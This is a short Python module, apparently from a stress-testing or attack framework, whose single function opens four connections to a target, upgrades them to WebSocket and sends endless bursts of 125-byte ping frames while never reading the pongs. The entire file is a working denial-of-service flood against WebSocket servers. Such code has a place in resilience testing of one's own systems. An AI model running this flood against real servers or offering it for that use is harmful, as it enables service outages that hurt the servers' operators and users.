"""WebSocket pings of 125 bytes without end, pongs unread."""

from wire import websocket
from wire.link import link


async def attack(target):
    burst = websocket.frame(websocket.PING, bytes(125)) * 500

    async def lane(number):
        async with link(target, target.source(number)) as it:
            if it:
                await websocket.upgraded(it)
                while target.goes_on():
                    await it.send(burst)

    await target.lanes(4, lane)
